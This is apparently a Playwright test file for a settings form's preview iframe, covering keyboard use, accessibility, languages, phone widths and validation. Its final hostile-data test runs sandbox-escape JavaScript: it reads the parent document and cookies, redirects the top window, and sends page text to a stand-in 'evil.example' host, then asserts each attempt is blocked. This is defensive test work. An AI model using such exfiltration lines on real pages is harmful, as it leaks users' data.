"""The preview of the settings form in Chromium: by keyboard, on a phone, in each language, and apart from the form."""

import json
import re
import shutil
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect
from previewed import MARKUP, build_previewed

STORED = {"bar": {"text": "Stored", "steps": [{"gift": "Mug"}]}}
TEXT = "/bar/text"


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    return build_previewed(tmp_path_factory.mktemp("previewed"))


@pytest.fixture
def open_form(world, opened, built, browser):
    """`open_form(language)` opens the settings page; its requests reach the server without a socket."""
    shutil.rmtree(world.dist)
    shutil.copytree(built, world.dist)
    context = browser.new_context(locale="en-GB")

    def open_in(language="en", scripts=True, late_sheet=None):
        visitor, url, code = opened(language=language)
        world.service.set_data(code, json.dumps(STORED))
        page = context.new_page()

        def answer(route):
            address, request = urlsplit(route.request.url), route.request
            names = ("content-type", "origin")
            headers = {name.replace("-", "_"): request.headers.get(name, "") for name in names}
            seen = visitor.send(
                request.method, f"{address.path}?{address.query}", request.post_data_buffer or b"", headers
            )
            if seen.status == 303:
                seen = visitor.follow(seen)
            sent = {**dict(seen.headers)}
            if not scripts and request.frame == page.main_frame:
                sent["content-security-policy"] = f"{sent.get('content-security-policy')}, script-src 'none'"
            body = seen.text
            if late_sheet:
                body = body.replace("</iframe>", '</iframe><link rel="stylesheet" href="late.css">')
            route.fulfill(status=seen.status, headers=sent, body=body)

        page.route("https://app.example/**", answer)
        if late_sheet:
            page.route("**/late.css", late_sheet)
        page.goto(f"https://app.example{url}", wait_until="commit" if late_sheet else "load")
        return page

    yield open_in
    context.close()


SAID_AT_LOAD = """
if (top !== self) {
  const page = parent;
  parent = { postMessage: (...said) => addEventListener("load", () => page.postMessage(...said)) };
}
"""


def shown(page):
    """Return what the frame shows; the one that comes while a new one is loaded."""
    return page.frame_locator(".preview iframe >> nth=-1").locator("main")


def violations(page):
    found = Axe().run(page, options={"resultTypes": ["violations"]}).response["violations"]
    return [f"{one['id']}: {[node['html'][:160] for node in one['nodes']]}" for one in found]


@pytest.mark.parametrize(
    ("language", "title"), [("en", "Preview"), ("de", "Vorschau"), ("lv", "Priekšskatījums")]
)
def test_preview_has_no_violation_and_fits_a_phone_in_each_language(open_form, language, title):
    page = open_form(language)
    expect(shown(page)).to_contain_text("Stored / 75")
    expect(page.get_by_role("heading", name=title)).to_be_visible()
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 800})
        assert language != "en" or violations(page) == []  # no rule depends on the words
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_preview_follows_the_entries_by_keyboard_and_leaves_the_focus(open_form, world):
    page = open_form()
    page.set_viewport_size({"width": 1280, "height": 800})
    world.calls.clear()
    text = page.locator(f"[name='{TEXT}']")
    text.focus()
    page.keyboard.press("End")
    page.keyboard.type(" and typed")
    expect(shown(page)).to_contain_text("Stored and typed / 75")
    expect(text).to_be_focused()
    assert page.evaluate("history.length") <= 2, "previews are no steps back"
    state = page.get_by_label("Situation")
    for _ in range(30):
        page.keyboard.press("Tab")
        if state.evaluate("it => it === document.activeElement"):
            break
    page.keyboard.press("ArrowDown")
    expect(shown(page)).to_contain_text("Hello en")
    page.get_by_label("Show the note").uncheck()
    expect(shown(page).get_by_text("Here the app shows nothing.")).to_be_visible()
    least = page.locator("[name='/bar/least']")
    least.fill("0")
    expect(shown(page)).to_contain_text("From: Enter 1 or more.")
    assert violations(shown(page).element_handle().owner_frame()) == []
    least.fill("75")
    expect(shown(page)).to_contain_text("Stored and typed / 75")
    # A preview that is still loading is not kept when the next entry is wrong.
    expect(page.locator(".preview iframe")).to_have_count(1)
    least.fill("0")
    expect(page.locator("[data-not-shown]")).to_have_text("Not shown yet: From: Enter 1 or more.")
    expect(page.locator(".preview iframe")).to_have_count(1)
    expect(shown(page)).to_contain_text("Stored and typed / 75")
    expect(least).not_to_have_attribute("aria-invalid", "true")
    least.press("Tab")
    expect(least).to_have_accessible_description(re.compile("Error: Enter 1 or more.$"))
    expect(least).to_have_attribute("aria-invalid", "true")
    assert violations(page) == []
    least.fill("9")
    expect(shown(page)).to_contain_text("Stored and typed / 9")
    expect(least).not_to_have_attribute("aria-invalid", "true")
    expect(least).not_to_have_accessible_description(re.compile("Error"))
    expect(page.locator("[data-not-shown]")).to_be_empty()
    assert world.calls == []


def test_field_has_no_mark_while_its_newest_entry_is_not_checked(open_form):
    page, held = open_form(), []
    least = page.locator("[name='/bar/least']")
    least.fill("0")
    expect(page.locator("[data-not-shown]")).to_have_text("Not shown yet: From: Enter 1 or more.")

    def hold(route):
        held.append(route) if route.request.method == "POST" else route.fallback()

    page.route("https://app.example/**", hold)
    page.clock.install()
    with page.expect_request(lambda request: request.method == "POST"):
        least.fill("9")
        least.press("Tab")
        page.clock.run_for(2000)
    assert least.get_attribute("aria-invalid") is None, "the known problem is that of the entry before"
    (checked,) = held
    checked.fallback()
    expect(shown(page)).to_contain_text("Stored / 9")
    expect(least).not_to_have_attribute("aria-invalid", "true")


def test_note_is_shown_when_the_frame_is_loaded_before_it_is_heard(open_form):
    """In a busy browser, the frame's `load` comes before a message that its page has sent while it was parsed."""
    page = open_form()
    expect(shown(page)).to_contain_text("Stored / 75")
    page.add_init_script(SAID_AT_LOAD)
    page.reload()
    least = page.locator("[name='/bar/least']")
    least.fill("0")
    expect(page.locator("[data-not-shown]")).to_have_text("Not shown yet: From: Enter 1 or more.")
    expect(shown(page)).to_contain_text("Stored / 75")


def test_first_frame_has_its_height_when_it_is_loaded_before_the_rest_of_the_page(open_form):
    sheets = []

    def keep_waiting(route):
        sheets.append(route)

    page = open_form(late_sheet=keep_waiting)
    expect(shown(page)).to_contain_text("Stored / 75")
    expect(page.frame_locator(".preview iframe").locator("html")).to_have_attribute("data-staged", "")
    sheets[0].fulfill(content_type="text/css", body="")
    page.wait_for_load_state()
    expect(page.locator(".preview .page")).to_have_attribute("style", re.compile("height"))


def test_preview_follows_the_rows(open_form):
    page = open_form()
    page.get_by_role("button", name="Add a row: Steps").click()
    page.get_by_role("group", name="Row 2 of 2").get_by_label("Gift").fill("A card")
    expect(shown(page).get_by_role("listitem")).to_have_text(["Mug", "A card"])
    page.get_by_role("button", name="Move up: Row 2 of 2").click()
    expect(page.get_by_role("button", name="Move down: Row 1 of 2")).to_be_focused()
    expect(shown(page).get_by_role("listitem")).to_have_text(["A card", "Mug"])
    page.get_by_role("group", name="Row 2 of 2").get_by_label("Gift").fill("long " * 9)
    expect(page.locator("[data-not-shown]")).to_contain_text("Not shown yet: Row 2, Gift: Enter at most 40")
    expect(shown(page).get_by_role("listitem")).to_have_text(["A card"])
    assert violations(page) == []


def test_browser_asks_before_unsaved_entries_are_left_and_only_then(open_form):
    page, asked = open_form(), []
    page.on("dialog", lambda dialog: (asked.append(dialog.type), dialog.accept()))
    page.locator(f"[name='{TEXT}']").fill("Typed")
    page.locator(f"[name='{TEXT}']").fill("Stored")
    page.reload()
    page.get_by_role("button", name="Add a row: Steps").click()
    page.get_by_role("group", name="Row 2 of 2").get_by_label("Gift").fill("A card")
    assert asked == []
    page.reload()
    assert asked == ["beforeunload"]
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status").first).to_contain_text("Saved.")
    assert asked == ["beforeunload"]


def test_preview_shows_the_widget_whose_entry_changes(open_form, tmp_path):
    page = open_form("de")
    page.set_viewport_size({"width": 1280, "height": 800})
    expect(page.get_by_role("button", name="Vorschau anzeigen")).to_have_count(0)
    assert page.locator("#preview-language option").all_inner_texts() == ["Englisch", "Lettisch", "Deutsch"]
    state = page.locator("#preview-state")
    expect(state).to_have_value(re.compile("^bar/"))
    page.locator("[name^='/note/'][type=checkbox]").first.click()
    expect(state).to_have_value("note/mug")
    page.locator(f"[name='{TEXT}']").fill("Back")
    expect(state).to_have_value(re.compile("^bar/"))
    expect(shown(page)).to_contain_text("Back / 75")
    page.locator("[data-width][value=phone]").check()
    window, frame = page.locator(".window").bounding_box(), page.locator(".page").bounding_box()
    assert abs(frame["x"] - window["x"] - (window["width"] - frame["width"]) / 2) < 2


def test_width_of_the_frame_is_chosen_by_the_style_sheet_alone(open_form):
    page = open_form(scripts=False)
    frame = page.locator("iframe")
    assert frame.evaluate("it => it.clientWidth") == 1280
    page.get_by_label("Phone").check()
    assert frame.evaluate("it => it.clientWidth") == 390
    page.locator(f"[name='{TEXT}']").fill("Without the page's script")
    page.get_by_role("button", name="Show preview").click()
    expect(shown(page)).to_contain_text("Without the page's script / 75")


def test_hostile_data_reaches_neither_the_form_nor_the_session_nor_the_network(open_form):
    page = open_form()
    address, asked = page.url, []
    page.on("request", lambda request: asked.append(request.url))
    page.locator(f"[name='{TEXT}']").fill(MARKUP)
    expect(shown(page)).to_contain_text(MARKUP)
    frame = shown(page).element_handle().owner_frame()
    refused = """async () => {
      const attempts = {
        form: () => parent.document.title,
        cookie: () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document),
        top: () => { top.location = "https://evil.example/"; },
        fetch: () => fetch("https://app.example/style.css").then((response) => response.text()),
      };
      const got = {};
      for (const [name, attempt] of Object.entries(attempts)) {
        try { got[name] = (await attempt()) ?? ""; } catch { got[name] = null; }
      }
      return { ...got, origin: self.origin };
    }"""
    assert frame.evaluate(refused) == {
        "form": None,
        "cookie": None,
        "top": None,
        "fetch": None,
        "origin": "null",
    }
    frame.evaluate("() => void (location = 'https://evil.example/?' + document.body.innerText)")
    page.wait_for_function("document.readyState === 'complete'")
    assert (page.url, "hit" in page.title()) == (address, False)
    assert [url for url in asked if "evil.example" in url or url.endswith("/x")] == []


def test_link_in_the_frame_does_not_lead_away(open_form):
    page = open_form()
    shown(page).get_by_role("link", name="else").click()
    expect(shown(page)).to_contain_text("Stored / 75")
